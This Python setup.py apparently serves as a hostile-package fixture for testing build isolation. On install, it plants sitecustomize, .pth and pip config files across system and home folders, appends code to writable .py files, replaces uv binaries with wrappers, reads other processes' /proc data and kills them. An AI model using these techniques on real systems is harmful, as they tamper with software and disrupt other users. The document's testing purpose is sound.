"""What a hostile package does while it is installed: it writes wherever it may, so that later builds run
what is its own, and goes for whatever else runs as the same user."""

import os
import signal
import sys
import time

from setuptools import setup

MARK = "cid-attack-4711"
HOME = os.path.expanduser("~")
BY_PASSWD = os.path.expanduser("~" + __import__("pwd").getpwuid(os.getuid()).pw_name)
OWN = os.environ["UV_PROJECT_ENVIRONMENT"]

# Leaves a sign in whatever environment it runs for.
RAN = f"""# {MARK}
import os
for name in ("UV_PROJECT_ENVIRONMENT", "VIRTUAL_ENV"):
    try:
        open(os.environ[name] + "/{MARK}-ran", "w")
    except (KeyError, OSError):
        pass
"""
WRAPPER = f"""#!/bin/sh
# {MARK}
touch "$UV_PROJECT_ENVIRONMENT/{MARK}-ran" "$VIRTUAL_ENV/{MARK}-ran"
exec "$0.{MARK}" "$@"
"""
PLANTS = {
    "pip.conf": f"# {MARK}\n[global]\nno-index = true\nfind-links = /nowhere\n",
    "uv.toml": f"# {MARK}\nfind-links = []\n",
    "sitecustomize.py": RAN,
    "usercustomize.py": RAN,
    "planted.pth": f"import os; open(os.environ['VIRTUAL_ENV'] + '/{MARK}-ran', 'w')\n",
    ".pydistutils.cfg": f"# {MARK}\n[install]\nprefix = /nowhere\n",
}
ROOTS = ["/var/lib/cid", "/srv", "/usr/local", "/etc", "/opt", "/run", "/tmp", "/var/tmp", "/dev/shm", HOME, BY_PASSWD]
# Those that it may not list, and those that are not there yet.
GUESSES = [
    folder + below
    for folder in ["/var/lib/cid/tools", "/var/lib/cid/tools/shop", "/var/lib/cid/builders/shop", "/var/lib/cid/home"]
    for below in [
        "", "/.config", "/.config/pip", "/.config/uv", "/.pip", "/.cache/pip", "/.cache/uv", "/cache/uv", "/uv/bin",
        f"/.local/lib/python3.{sys.version_info.minor}/site-packages",
    ]
]
log = open(OWN + "/attack.log", "a")


def say(text):
    log.write(text + "\n")
    log.flush()


def attempt(act, *arguments):
    try:
        act(*arguments)
        say(f"{act.__name__} {arguments[0]}")
    except OSError:
        pass


def plant(path):
    name = os.path.basename(path)
    with open(path, "w") as file:
        file.write(PLANTS[name])


def append(path):
    with open(path, "a") as file:
        file.write("\n" + RAN)


def replace(path):
    os.rename(path, f"{path}.{MARK}")
    with open(path, "w") as file:
        file.write(WRAPPER)
    os.chmod(path, 0o755)


def take_all():
    for folder in GUESSES:
        attempt(os.makedirs, folder)
    for root in ROOTS + GUESSES:
        for at, folders, files in os.walk(root):
            if at.startswith(OWN):
                folders.clear()
                continue
            for name in PLANTS:
                attempt(plant, os.path.join(at, name))
            for name in files:
                path = os.path.join(at, name)
                if name == "uv":
                    attempt(replace, path)
                elif name.endswith(".py") and name not in PLANTS:
                    attempt(append, path)


# Its helper's, which does not let itself be looked at: killed, it would end this build alone. A number may be that
# of one of its threads, too.
SESSION = os.getsid(0)


def is_of_this_build(pid):
    """Those of others are not to be seen, which does not keep anybody from guessing their numbers."""
    try:
        if os.getsid(pid) == SESSION:
            return True
        with open(f"/proc/{pid}/stat") as stat, open(f"/proc/{pid}/cgroup") as its, open("/proc/self/cgroup") as own:
            return stat.read().rsplit(")", 1)[1].split()[0] == "Z" or its.read() == own.read()
    except OSError:
        return False


def others():
    """Processes of the same user outside of this build's unit."""
    for pid in range(2, 10000):
        # One that is just ending has no control group any more.
        if is_foreign(pid) and not time.sleep(0.02) and is_foreign(pid):
            yield pid


def is_foreign(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return not is_of_this_build(pid)


def hurt(pid):
    for name in ("environ", "mem", "root/var/lib/cid"):
        path = f"/proc/{pid}/{name}"
        attempt(os.listdir if name.startswith("root") else open, path)
    attempt(plant, f"/proc/{pid}/root/var/lib/cid/packages/shop/pip.conf")
    os.kill(pid, signal.SIGKILL)
    say(f"killed {pid}")


def wait_for_others(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for pid in others():
            attempt(hurt, pid)
        for name in os.listdir(os.path.dirname(OWN)):
            if name != os.path.basename(OWN):
                attempt(plant, os.path.join(os.path.dirname(OWN), name, "sitecustomize.py"))
        time.sleep(0.05)


# Of the several calls of an installer the first one that has the time.
if "bdist_wheel" in sys.argv and not os.path.exists(OWN + "/attack.begun"):
    open(OWN + "/attack.begun", "w").close()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(3):
                os.close(descriptor)
            wait_for_others(120)
        os._exit(0)
    # What else is installed is in the cache by then.
    time.sleep(2)
    take_all()
    wait_for_others(6)
    say("the end")

setup(name="hostile", version="1.0", py_modules=["hostile"])
